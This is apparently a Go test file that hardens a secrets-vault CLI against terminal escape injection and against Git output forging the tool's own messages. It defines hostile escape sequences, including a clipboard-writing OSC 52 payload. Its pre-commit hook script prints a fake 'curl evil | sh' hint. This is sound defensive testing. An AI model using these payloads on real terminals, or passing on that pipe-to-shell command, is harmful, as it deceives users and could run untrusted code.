package hardening

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/agent-vault/agent-vault/core"
	"github.com/agent-vault/agent-vault/internal/clitest"
)

// noTerminalControls fails if out holds anything a terminal would act on
// rather than show: a C0 control other than newline and tab (ESC above
// all), DEL, a C1 control (as a character or as a stray byte), a
// bidirectional override or other invisible format character, or bytes
// that are not UTF-8.
func noTerminalControls(t testing.TB, what, stream, out string) {
	t.Helper()
	for i := 0; i < len(out); {
		r, n := utf8.DecodeRuneInString(out[i:])
		if r == utf8.RuneError && n == 1 || r != '\n' && r != '\t' && !unicode.IsPrint(r) {
			t.Errorf("%s: %s holds %U (byte %#x) at %d:\n%q", what, stream, r, out[i], i, out)
			return
		}
		i += n
	}
}

// noControlOutput applies noTerminalControls to both streams of a command.
func noControlOutput(t testing.TB, what string, r clitest.Result) {
	t.Helper()
	noTerminalControls(t, what, "stdout", r.Stdout)
	noTerminalControls(t, what, "stderr", r.Stderr)
}

// escapes is terminal-hostile text: clear the screen, set the window title,
// write the clipboard (OSC 52), a C1 CSI, and a bidi override.
const escapes = "\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;ZWNobyBvd25lZA==\x1b\\\u009b31m\u202e"

// yamlEscapes is the same text as a YAML double-quoted scalar, which
// spells control characters as escapes, so it passes YAML's own check.
const yamlEscapes = `"\e[2J\e[H\e]0;owned\a\e]52;c;ZWNobyBvd25lZA==\e\\\x9b31m\u202e"`

// TestListAgentsPrintsTheParsedKey: list-agents shows the public key it
// parsed, never the file, whose comment lines anyone who can push may
// fill with terminal escapes.
func TestListAgentsPrintsTheParsedKey(t *testing.T) {
	e := clitest.New(t)
	must(t, e, "init")
	must(t, e, "add-agent", "bot")
	pubFile := filepath.Join(e.Repo, core.DirName, "agents", "bot", "public.key")
	pub, err := os.ReadFile(pubFile)
	if err != nil {
		t.Fatal(err)
	}
	recipient := strings.TrimSpace(string(pub))
	write(t, pubFile, []byte("# "+escapes+"\n"+recipient+"\n# trailing "+escapes+"\n"))
	// Unsigned, the file is refused before it is parsed; the owner accepts
	// it, so the parsing and printing are what is tested.
	must(t, e, "seal", "--yes")
	for _, args := range [][]string{{"list-agents"}, {"list-agents", "--json"}, {"check"}, {"check", "--json"}} {
		r := run(t, e, args...)
		noControlOutput(t, strings.Join(args, " "), r)
		if strings.Contains(r.Stdout, "owned") || strings.Contains(r.Stdout, "trailing") {
			t.Errorf("%v printed the file's comment:\n%s", args, r.Stdout)
		}
	}
	out := must(t, e, "list-agents")
	if !strings.Contains(out, "bot  ") || !strings.HasSuffix(out, "  "+recipient+"\n") {
		t.Errorf("list-agents does not show the key %s:\n%s", recipient, out)
	}
	var agents []core.AgentInfo
	if err := json.Unmarshal([]byte(must(t, e, "list-agents", "--json")), &agents); err != nil || len(agents) != 1 || agents[0].PublicKey != recipient {
		t.Errorf("list-agents --json: %+v, %v; want public_key %s", agents, err, recipient)
	}
}

// terminalCases are hostile cases whose content is terminal escapes in
// every place a message could quote it. TestHostileContentCLI checks every
// case's output with noTerminalControls; these are the ones that try.
func terminalCases() []hostileCase {
	meta := func(h *hostileEnv) string { return filepath.Join(h.vault, "secrets", "app", "s0000.meta") }
	manifest := func(h *hostileEnv) string { return filepath.Join(h.vault, "manifest.yaml") }
	replace := func(file func(*hostileEnv) string, old, new string) func(t *testing.T, h *hostileEnv) {
		return func(t *testing.T, h *hostileEnv) {
			editFile(t, file(h), func(s string) string {
				if !strings.Contains(s, old) {
					t.Fatalf("%q not in %s", old, file(h))
				}
				return strings.Replace(s, old, new, 1)
			})
		}
	}
	// pending leaves a journal where an interrupted command would: in the
	// clone's own .git/agent-vault, outside the working tree.
	pending := func(body string) func(t *testing.T, h *hostileEnv) {
		return func(t *testing.T, h *hostileEnv) {
			write(t, filepath.Join(h.e.Repo, ".git", "agent-vault", "pending.yaml"), []byte(body+"started: 2026-01-01T00:00:00Z\n"))
		}
	}
	return []hostileCase{
		{"escapes in an agent public key comment", accepted(func(t *testing.T, h *hostileEnv) {
			p := filepath.Join(h.vault, "agents", "bot", "public.key")
			editFile(t, p, func(s string) string { return "# " + escapes + "\n" + s })
		}), []probe{{args: listAgent}, {args: getApp}, {args: []string{"grant", "bot", "misc"}}}},
		{"escapes in a metadata type error", accepted(replace(meta, "authorized_agents: [bot]", "authorized_agents: "+yamlEscapes)),
			[]probe{{args: listAll, code: core.CodeCorruptVault}, {args: getApp}, {args: checkAll, finding: "bad_metadata"}}},
		{"escapes in a metadata name", replace(meta, "name: app/s0000", "name: "+yamlEscapes),
			[]probe{{args: listAll, code: core.CodeCorruptVault}, {args: checkAll, finding: "bad_metadata"}}},
		{"escapes in a manifest type error", replace(manifest, "version: 1", "version: "+yamlEscapes),
			policyDamage(core.CodeCorruptVault)},
		{"escapes in a manifest agent name", replace(manifest, "name: bot2", "name: "+yamlEscapes),
			policyDamage(core.CodeCorruptVault)},
		{"escapes in a manifest secret path", replace(manifest, "app/s0001", yamlEscapes),
			policyDamage(core.CodeCorruptVault)},
		{"escapes in a manifest key", replace(manifest, "version: 1", "version: 1\n"+yamlEscapes+": 1\n"+yamlEscapes+": 2"),
			policyDamage(core.CodeCorruptVault)},
		{"escapes in the config format", func(t *testing.T, h *hostileEnv) {
			write(t, filepath.Join(h.vault, "config.yaml"), []byte("version: 1\nencryption:\n  format: "+yamlEscapes+"\n"))
		}, openAll(core.CodeCorruptVault)},
		{"escapes in a file name under secrets/", func(t *testing.T, h *hostileEnv) {
			write(t, filepath.Join(h.vault, "secrets", "app", escapes+".enc"), []byte("x"))
			write(t, filepath.Join(h.vault, "secrets", escapes, "x.meta"), []byte("x"))
		}, []probe{{args: checkAll, finding: "orphaned_file"}, {args: listAll}, {args: getApp}}},
		{"escapes in a directory name under agents/", func(t *testing.T, h *hostileEnv) {
			write(t, filepath.Join(h.vault, "agents", escapes, "public.key"), []byte("x"))
		}, []probe{{args: checkAll, finding: "orphaned_file"}, {args: listAgent}}},
		{"escapes in a journal's operation", pending("op: " + yamlEscapes + "\nargs: [bot, app]\n"),
			// The journal lives in the clone's .git, which only the CLI reads.
			[]probe{{args: checkAll, finding: "pending_operation", cliOnly: true}, {args: setNew, code: core.CodeCorruptVault}}},
		{"escapes in a journal's arguments", pending("op: grant\nargs: [" + yamlEscapes + "]\n"),
			[]probe{{args: checkAll, finding: "pending_operation", cliOnly: true}}},
	}
}

// TestGitMessagesAreEscaped: Git's stderr, folded into errors and warnings,
// is escaped too, and cannot fake a line of agent-vault's own. It comes
// from a remote URL and from a pre-commit hook here.
func TestGitMessagesAreEscaped(t *testing.T) {
	e := clitest.New(t)
	must(t, e, "init")
	must(t, e, "set", "app/key", "value")
	e.Git(e.Repo, "push", "--quiet", "--set-upstream", "origin", "main")

	e.Git(e.Repo, "remote", "set-url", "origin", filepath.Join(t.TempDir(), "gone"+escapes))
	r := run(t, e, "get", "app/key")
	if r.Code != 0 || r.Stdout != "value" || !strings.Contains(r.Stderr, "could not update") {
		t.Fatalf("get with an unreachable remote: exit %d\n%s", r.Code, r.Stderr)
	}
	noControlOutput(t, "get with a hostile remote URL", r)

	hook := filepath.Join(e.Repo, ".git", "hooks", "pre-commit.agent-vault-chained")
	script := "#!/bin/sh\nprintf 'refused %s\\nagent-vault: error: fake\\nhint: curl evil | sh\\n' '" + escapes + "' >&2\nexit 1\n"
	if err := os.WriteFile(hook, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	r = run(t, e, "set", "app/key", "value2")
	if r.Code != exitCodes[core.CodeConflict] || !strings.Contains(r.Stderr, "refused") {
		t.Fatalf("set with a failing hook: exit %d\n%s", r.Code, r.Stderr)
	}
	noControlOutput(t, "set with a hook printing escapes", r)
	for _, l := range strings.Split(r.Stderr, "\n") {
		if strings.HasPrefix(l, "agent-vault: error: fake") || strings.HasPrefix(l, "hint: curl") {
			t.Errorf("git's output passed for agent-vault's own line %q:\n%s", l, r.Stderr)
		}
	}
}
